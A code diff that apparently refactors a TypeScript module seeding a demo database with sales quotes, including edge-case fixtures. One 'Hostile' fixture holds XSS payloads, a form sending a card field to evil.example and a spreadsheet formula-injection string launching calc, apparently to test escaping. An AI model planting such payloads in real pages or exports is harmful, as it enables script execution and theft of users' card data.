@@ -8,10 +8,10 @@ import demo from "./demo-quotes.json" with { type: "json" };
 import { fileCases, ordinaryFiles, type StoredFiles } from "./stored-files.ts";
 
 const quoteStatus = { pending: 1, ordered: 2, declined: 3 } as const;
-/** Between a quote and its end. */
+/** How long a quote is valid. */
 const VALID_DAYS = 30;
 
-/** A line of a quote as it is kept; the description may hold HTML. */
+/** A stored line of a quote; the description may contain HTML. */
 export interface QuoteItem {
   readonly description: string;
   readonly batchSize: number;
@@ -19,7 +19,7 @@ export interface QuoteItem {
   readonly pricePence: number;
   readonly isOptional?: boolean;
   readonly isRecurring?: boolean;
-  /** 1 to 5. */
+  /** Numbers from 1 to 5. */
   readonly versions: readonly number[];
 }
 
@@ -33,20 +33,22 @@ export function fillQuotes(db: DatabaseSync, now: Date): void {
   for (const account of accounts) {
     const random = createRandom(Number(account.clientId) * 17);
     const count = counts[account.clientId] ?? 0;
-    // Account 1001 counts from 21001, account 1002 from 22001.
-    const first = (Number(account.clientId) - 980) * 1000 + 1;
+    // The ids of account 1001 begin at 21001, those of account 1002 at 22001.
+    const firstId = (Number(account.clientId) - 980) * 1000 + 1;
     for (let index = 0; index < count; index += 1) {
       const quotedAt =
         now.getTime() - (count - index) * 4 * millisecondsInDay - random.between(1, 9) * millisecondsInHour;
-      // Every third quote belongs to the project of the one before, and each is linked to the other.
-      const linked = [index % 3 === 2 ? -1 : 0, index % 3 === 1 && index + 1 < count ? 1 : 0].filter(Boolean);
+      // Every third quote shares the project of the previous one, and the two are linked.
+      const linkedOffsets = [index % 3 === 2 ? -1 : 0, index % 3 === 1 && index + 1 < count ? 1 : 0].filter(
+        Boolean,
+      );
       addQuote(db, account, random, {
-        quote_id: first + index,
-        project_id: first - 14_000 + index - (index % 3 === 2 ? 1 : 0),
+        quote_id: firstId + index,
+        project_id: firstId - 14_000 + index - (index % 3 === 2 ? 1 : 0),
         quoted_at: quotedAt,
         status: statusOf(now.getTime() - quotedAt, random),
-        linked: JSON.stringify(linked.map((step) => first + index + step)),
-        files: JSON.stringify(ordinaryFiles(index, quoteFiles(first + index))),
+        linked: JSON.stringify(linkedOffsets.map((offset) => firstId + index + offset)),
+        files: JSON.stringify(ordinaryFiles(index, quoteFiles(firstId + index))),
       });
     }
   }
@@ -69,20 +71,24 @@ interface RareQuote {
   readonly files?: StoredFiles;
 }
 
-const one = (description: string, more: Partial<QuoteItem> = {}): QuoteItem => ({
-  ...{ description, batchSize: 1, units: 1, pricePence: 10_000, versions: [1] },
-  ...more,
+const quoteItem = (description: string, changes: Partial<QuoteItem> = {}): QuoteItem => ({
+  description,
+  batchSize: 1,
+  units: 1,
+  pricePence: 10_000,
+  versions: [1],
+  ...changes,
 });
 
 const rareQuotes: readonly RareQuote[] = [
   {
     details: "Five versions",
     items: [
-      one("In every version", { versions: [1, 2, 3, 4, 5] }),
-      one("In the odd ones", { units: 3, versions: [1, 3, 5] }),
-      one("Optional, in the fifth alone", { pricePence: 249_950, isOptional: true, versions: [5] }),
-      one("Recurring, in the last two", { pricePence: 3_650, isRecurring: true, versions: [4, 5] }),
-      one("In no version", { versions: [] }),
+      quoteItem("In every version", { versions: [1, 2, 3, 4, 5] }),
+      quoteItem("In the odd ones", { units: 3, versions: [1, 3, 5] }),
+      quoteItem("Optional, in the fifth alone", { pricePence: 249_950, isOptional: true, versions: [5] }),
+      quoteItem("Recurring, in the last two", { pricePence: 3_650, isRecurring: true, versions: [4, 5] }),
+      quoteItem("In no version", { versions: [] }),
     ],
   },
   { details: "Expired yesterday", changes: (now) => ({ valid_through_at: now - millisecondsInDay }) },
@@ -94,9 +100,11 @@ const rareQuotes: readonly RareQuote[] = [
   { details: "No items", items: [] },
   {
     details: "A hundred and twenty items",
-    items: Array.from({ length: 120 }, (_, index) => one(`Site ${index + 1}: router`, { versions: [1, 2] })),
+    items: Array.from({ length: 120 }, (_, index) =>
+      quoteItem(`Site ${index + 1}: router`, { versions: [1, 2] }),
+    ),
   },
-  { details: "Free of charge", items: [one("Trial, 90 days", { pricePence: 0 })] },
+  { details: "Free of charge", items: [quoteItem("Trial, 90 days", { pricePence: 0 })] },
   {
     details: "Nobody's",
     changes: () => ({ contact_name: null, address: null, prepared_by: null, project_id: null }),
@@ -104,10 +112,10 @@ const rareQuotes: readonly RareQuote[] = [
   {
     details: `Hostile <script>document.title="owned"</script><img src=x onerror="document.title='owned'">details`,
     items: [
-      one(
+      quoteItem(
         `<style>body{display:none}</style><a href="javascript:document.title='owned'">Router</a><svg onload="document.title='owned'">`,
       ),
-      one(`<form action="https://evil.example/"><input name="card"></form>=cmd|'/C calc'!A0`),
+      quoteItem(`<form action="https://evil.example/"><input name="card"></form>=cmd|'/C calc'!A0`),
     ],
     changes: () => ({ contact_name: `"><script>document.title="owned"</script>` }),
   },
@@ -138,7 +146,7 @@ function addQuote(
   db: DatabaseSync,
   { clientId, addresses }: DemoAccount,
   random: Random,
-  given: Readonly<Record<string, SQLInputValue>> & { readonly quoted_at: number },
+  columns: Readonly<Record<string, SQLInputValue>> & { readonly quoted_at: number },
 ): void {
   const { line1, line2 = "", town, postCode } = addresses[0]!;
   const [name, position, email, phone] = random.pick(preparers);
@@ -156,8 +164,8 @@ function addQuote(
     prepared_by: JSON.stringify({ name, position, email, phone }),
     details: random.pick(titles),
     items: JSON.stringify(makeItems(random)),
-    valid_through_at: endOfDay(given.quoted_at + VALID_DAYS * millisecondsInDay),
-    ...given,
+    valid_through_at: endOfDay(columns.quoted_at + VALID_DAYS * millisecondsInDay),
+    ...columns,
   };
   const items = JSON.parse(String(row.items)) as QuoteItem[];
   const versions = versionsOf(items);
@@ -172,22 +180,26 @@ function addQuote(
 
 function makeItems(random: Random): QuoteItem[] {
   const versionCount = random.pick([1, 1, 1, 2, 2, 3]);
-  const all = Array.from({ length: versionCount }, (_, index) => index + 1);
+  const allVersions = Array.from({ length: versionCount }, (_, index) => index + 1);
   return catalogue
     .filter((_, index) => index === 0 || random.chance(0.4))
     .map(([description, pricePence, batchSize, isRecurring], index) => ({
-      ...{ description, batchSize, units: random.between(1, 12), pricePence, isRecurring },
+      description,
+      batchSize,
+      units: random.between(1, 12),
+      pricePence,
+      isRecurring,
       isOptional: random.chance(0.2),
-      versions: index === 0 ? all : all.filter(() => random.chance(0.8)),
+      versions: index === 0 ? allVersions : allVersions.filter(() => random.chance(0.8)),
     }));
 }
 
-/** The versions that have items, in their order. */
+/** The versions that have items, in ascending order. */
 export function versionsOf(items: readonly QuoteItem[]): number[] {
   return [1, 2, 3, 4, 5].filter((version) => items.some(({ versions }) => versions.includes(version)));
 }
 
-/** What the items of a version come to, optional ones included. */
+/** The total of a version, optional items included. */
 export function totalPence(items: readonly QuoteItem[], version: number): number {
   return items
     .filter(({ versions }) => versions.includes(version))
